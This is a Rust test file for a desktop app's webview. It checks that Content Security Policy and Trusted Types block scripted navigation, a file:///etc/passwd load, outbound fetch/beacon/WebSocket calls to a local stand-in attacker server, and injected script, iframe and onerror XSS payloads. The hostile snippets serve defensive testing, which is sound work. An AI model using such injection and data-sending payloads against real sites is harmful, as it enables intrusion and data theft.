//! What a script in the window can reach, should one ever get in: nothing but the app's own pages.

use std::{
    io::{Read, Write},
    net::TcpListener,
    sync::{Arc, Mutex},
    thread,
    time::Duration,
};

use serde_json::json;
use window_tests::Desktop;

/// How long an attempt has to arrive. What is refused is refused at once.
const WHILE: Duration = Duration::from_secs(2);

#[test]
fn the_window_goes_nowhere_else() {
    let elsewhere = Elsewhere::listen();
    let desktop = Desktop::new();
    let app = desktop.start();
    app.is_offered("Add your account");
    let before = app.run("return location.href", json!([]));

    for attempt in [
        "location.href = arguments[0]",
        "location.replace(arguments[0])",
        "window.open(arguments[0])",
        "window.open(arguments[0], '_top')",
        "const a = document.body.appendChild(document.createElement('a'));
         a.href = arguments[0]; a.click()",
        "const a = document.body.appendChild(document.createElement('a'));
         a.href = arguments[0]; a.target = '_blank'; a.click()",
        "const a = document.body.appendChild(document.createElement('a'));
         a.href = arguments[0]; a.download = 'list.csv'; a.click()",
        "const form = document.body.appendChild(document.createElement('form'));
         form.action = arguments[0]; form.submit()",
        "const meta = document.head.appendChild(document.createElement('meta'));
         meta.httpEquiv = 'refresh'; meta.content = `0; url=${arguments[0]}`",
        "location.href = 'data:text/html,<title>elsewhere</title>'",
        "location.href = URL.createObjectURL(new Blob(['<p>elsewhere'], { type: 'text/html' }))",
        "location.href = 'about:blank'",
        "location.href = 'file:///etc/passwd'",
    ] {
        app.run(attempt, json!([elsewhere.address]));
        thread::sleep(WHILE / 4);
        let now = app.run("return location.href", json!([]));
        assert_eq!(now, before, "{attempt}");
    }

    thread::sleep(WHILE);
    assert_eq!(elsewhere.requests(), [""; 0]);
    app.forget_violations();
    app.is_offered("Add your account");
}

#[test]
fn the_page_loads_and_runs_nothing_from_elsewhere() {
    const ADD: &str = "const add = (name, set) =>
        document.body.appendChild(Object.assign(document.createElement(name), set));";
    let elsewhere = Elsewhere::listen();
    let desktop = Desktop::new();
    let app = desktop.start();
    app.is_offered("Add your account");
    app.run("window.ran = []", json!([]));

    for (attempt, directive) in [
        ("fetch(arguments[0]).catch(() => {})", "connect-src"),
        (
            "navigator.sendBeacon(arguments[0], 'a person')",
            "connect-src",
        ),
        (
            "try { new WebSocket(arguments[0].replace('http', 'ws')) } catch {}",
            "connect-src",
        ),
        ("add('img', { src: arguments[0] })", "img-src"),
        (
            "add('img', { src: 'data:image/gif;base64,R0lGODlhAQABAAAAACw=' })",
            "img-src",
        ),
        ("add('iframe', { src: arguments[0] })", "frame-src"),
        (
            "add('link', { rel: 'stylesheet', href: arguments[0] })",
            "style-src-elem",
        ),
        (
            "add('style', { textContent: 'body { display: none }' })",
            "style-src-elem",
        ),
        (
            "add('p', {}).setAttribute('style', 'display: none')",
            "style-src-attr",
        ),
        ("add('video', { src: arguments[0] })", "media-src"),
        (
            "try { new Worker('/worker.js') } catch {}",
            "require-trusted-types-for",
        ),
        (
            "try { add('p', { innerHTML: '<img src=x onerror=ran.push(1)>' }) } catch {}",
            "require-trusted-types-for",
        ),
        (
            "try { add('script', { textContent: 'ran.push(2)' }) } catch {}",
            "require-trusted-types-for",
        ),
        (
            "try { add('script', { src: arguments[0] }) } catch {}",
            "require-trusted-types-for",
        ),
        (
            "try { trustedTypes.createPolicy('mine', {}) } catch {}",
            "trusted-types",
        ),
        (
            "try { trustedTypes.createPolicy('svelte-trusted-html', {}) } catch {}",
            "trusted-types",
        ),
    ] {
        app.forget_violations();
        app.run(&format!("{ADD} {attempt}"), json!([elsewhere.address]));
        thread::sleep(WHILE / 8);
        let violated = app.violations();
        assert!(
            violated.iter().any(|name| name == directive),
            "{attempt}: {violated:?}"
        );
    }

    thread::sleep(WHILE);
    assert_eq!(app.run("return ran", json!([])), json!([]));
    assert_eq!(elsewhere.requests(), [""; 0]);
    app.forget_violations();
}

/// A server of an attacker's, which notes what arrives.
struct Elsewhere {
    address: String,
    requests: Arc<Mutex<Vec<String>>>,
}

impl Elsewhere {
    fn listen() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").expect("a port is free");
        let address = listener.local_addr().expect("a listener has an address");
        let requests = Arc::new(Mutex::new(Vec::new()));
        let seen = Arc::clone(&requests);
        thread::spawn(move || {
            for stream in listener.incoming() {
                let Ok(mut stream) = stream else { continue };
                let mut head = [0; 4096];
                let length = stream.read(&mut head).unwrap_or_default();
                let head = String::from_utf8_lossy(&head[..length]);
                let line = head.lines().next().unwrap_or_default().to_owned();
                seen.lock().expect("nobody panicked").push(line);
                // Whoever asked may be gone.
                let _ = stream.write_all(
                    b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 12\r\n\
                      Access-Control-Allow-Origin: *\r\nConnection: close\r\n\r\n<p>elsewhere",
                );
            }
        });
        Self {
            address: format!("http://{address}/"),
            requests,
        }
    }

    /// The first line of each request that has arrived.
    fn requests(&self) -> Vec<String> {
        self.requests.lock().expect("nobody panicked").clone()
    }
}
